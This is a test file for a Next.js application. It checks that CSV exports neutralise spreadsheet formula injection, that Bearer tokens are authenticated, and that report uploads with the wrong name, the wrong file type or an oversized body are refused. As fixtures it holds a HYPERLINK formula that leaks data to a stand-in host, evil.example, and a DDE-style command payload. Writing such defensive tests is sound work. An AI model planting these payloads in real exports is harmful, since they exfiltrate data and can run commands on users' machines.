// CSV exports are safe from formula injection (a site, member, NGI or component named "=HYPERLINK(…"
// comes out prefixed with '), the teams export takes a Bearer token, and report uploads through the API are
// refused with the wrong magic bytes or the wrong name (400) or one byte past 10 MB (413), each with the
// reason, while the right file, up to exactly 10 MB, is accepted.
import { NextRequest } from 'next/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { db } from '@/lib/db/client';
import { createCommitment, createTeam, uniqueTag } from '@/lib/seed/factories';
import { GET as teamsCsv } from '@/app/(app)/teams/export/route';
import { GET as coverageCsv } from '@/app/api/v1/coverage/route';
import { GET as gapsCsv } from '@/app/api/v1/coverage/gaps/route';
import { POST as uploadReport } from '@/app/api/v1/rollouts/[number]/report/route';
import { proxy } from '@/proxy';
import { type FuzzWorld, makeFuzzWorld } from './support/world';

type Handler<P> = (request: NextRequest, context: { params: Promise<P> }) => Promise<Response>;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** RFC 4180 cells of a CSV document. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i++) {
    const char = body[i]!;
    if (quoted && char === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      endCell();
    } else if (!quoted && char === '\r' && body[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += char;
    }
  }
  return rows;
}

let world: FuzzWorld;
let tag: string;
beforeAll(async () => {
  world = await makeFuzzWorld();
  tag = uniqueTag();
});

const get = async (handler: Handler<Record<string, string>>, path: string) => {
  const response = await handler(new NextRequest(`http://localhost${path}`, { headers: { authorization: `Bearer ${world.powerToken}` } }), { params: Promise.resolve({}) });
  expect(response.status, path).toBe(200);
  expect(response.headers.get('content-type')).toContain('text/csv');
  return parseCsv(await response.text());
};

function expectNoFormulaCell(rows: string[][]) {
  const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell));
  expect(dangerous).toEqual([]);
}

describe('CSV exports and formula injection', () => {
  it('the teams export takes a Bearer token like the API: the sign-in gate lets it through, the route authenticates it', async () => {
    const gate = await proxy(new NextRequest('http://localhost/teams/export', { headers: { authorization: `Bearer ${world.memberToken}` } }));
    expect(gate.headers.get('x-middleware-next')).toBe('1');
    const signedOut = await proxy(new NextRequest('http://localhost/teams/export'));
    expect(signedOut.status).toBe(307);
    const rejected = await (teamsCsv as Handler<Record<string, string>>)(new NextRequest('http://localhost/teams/export', { headers: { authorization: 'Bearer eat_not-a-token' } }), { params: Promise.resolve({}) });
    expect(rejected.status).toBe(401);
    expect((await get(teamsCsv as never, '/teams/export'))[0]!.length).toBeGreaterThan(1);
  });

  it('the teams export prefixes cells that a spreadsheet would evaluate', async () => {
    const team = await createTeam(db, { ngiName: `@SUM(1+1)*cmd|' /C calc'!A0 ${tag}`, siteName: `${FORMULA}${tag}`.slice(0, 90) });
    await db.user.update({ where: { id: team.member!.id }, data: { name: `+${FORMULA}` } });
    const rows = await get(teamsCsv as never, `/teams/export?q=${encodeURIComponent(tag)}`);
    const cells = rows.flat();
    expect(cells).toContain(`'${`${FORMULA}${tag}`.slice(0, 90)}`); // the Site column
    expect(cells.some((cell) => cell.startsWith(`'@SUM(1+1)`))).toBe(true); // NGI name
    expect(cells.some((cell) => cell.startsWith(`'+${FORMULA}`))).toBe(true); // the member
    expectNoFormulaCell(rows);
  });

  it('the coverage matrix and gap CSVs do the same for component names', async () => {
    const commitment = await createCommitment(db, { teamId: world.team.team.id });
    const component = await db.component.update({ where: { id: commitment.componentId }, data: { name: `${FORMULA}-${tag}` }, include: { stack: true } });
    for (const path of [`/api/v1/coverage?format=csv&stack=${component.stack.slug}`, `/api/v1/coverage/gaps?format=csv&stack=${component.stack.slug}`]) {
      const rows = await get((path.includes('gaps') ? gapsCsv : coverageCsv) as never, path);
      expect(rows.flat(), path).toContain(`'${FORMULA}-${tag}`);
      expectNoFormulaCell(rows);
    }
  });
});

describe('report uploads through the API', () => {
  const upload = async (name: string, bytes: Uint8Array, extra: Record<string, string> = {}) => {
    const form = new FormData();
    const fields = { teamId: world.team.team.id, releaseNotesCorrect: 'yes', testsPerformed: 'Installed, configured, ran the functional tests.', recommendation: 'ACCEPT', ...extra };
    for (const [key, value] of Object.entries(fields)) form.append(key, value);
    form.append('file', new File([bytes as BlobPart], name));
    const response = await (uploadReport as Handler<{ number: string }>)(
      new NextRequest(`http://localhost/api/v1/rollouts/${world.rollout.number}/report`, { method: 'POST', headers: { authorization: `Bearer ${world.memberToken}` }, body: form }),
      { params: Promise.resolve({ number: String(world.rollout.number) }) },
    );
    return { status: response.status, body: (await response.json()) as { message: string; fieldErrors?: Record<string, string[]> } };
  };

  it('refuses a wrong name (naming the expected one), wrong magic bytes and more than 10 MB; accepts the right file', async () => {
    const before = await db.report.findUniqueOrThrow({ where: { participationId: world.participation.id }, select: { sha256: true, size: true } });
    const wrongName = await upload('report.txt', new TextEncoder().encode('Fine.\n'));
    expect(wrongName.status, wrongName.body.message).toBe(400);
    const expected = wrongName.body.fieldErrors!.expectedFileName![0]!;
    expect(expected).toMatch(/^ea-.+\.txt$/);
    expect(wrongName.body.message).toContain(expected);

    const pdfName = expected.replace(/\.txt$/, '.pdf');
    const executable = await upload(pdfName, new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00])); // "MZ": a Windows executable
    expect(executable.status).toBe(400);
    expect(executable.body.message).toMatch(/must be a PDF document/);

    const onePastTheLimit = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x61);
    const tooBig = await upload(expected, onePastTheLimit);
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.message).toBe('The file is larger than 10 MB.');
    // Nothing refused replaced the team's earlier report.
    expect(await db.report.findUniqueOrThrow({ where: { participationId: world.participation.id }, select: { sha256: true, size: true } })).toEqual(before);

    const atTheLimit = await upload(expected, new Uint8Array(10 * 1024 * 1024).fill(0x61));
    expect(atTheLimit.status, atTheLimit.body.message).toBe(200);
    expect(await db.report.findUniqueOrThrow({ where: { participationId: world.participation.id }, select: { size: true } })).toEqual({ size: 10 * 1024 * 1024 });

    const good = await upload(expected, new TextEncoder().encode('Staged rollout report: all tests passed.\n'));
    expect(good.status, JSON.stringify(good.body)).toBe(200);
    expect(await db.report.findUnique({ where: { participationId: world.participation.id }, select: { fileName: true, size: true } })).toEqual({ fileName: expected, size: 41 });
  }, 120_000); // three 10 MB multipart bodies parsed in-process
});
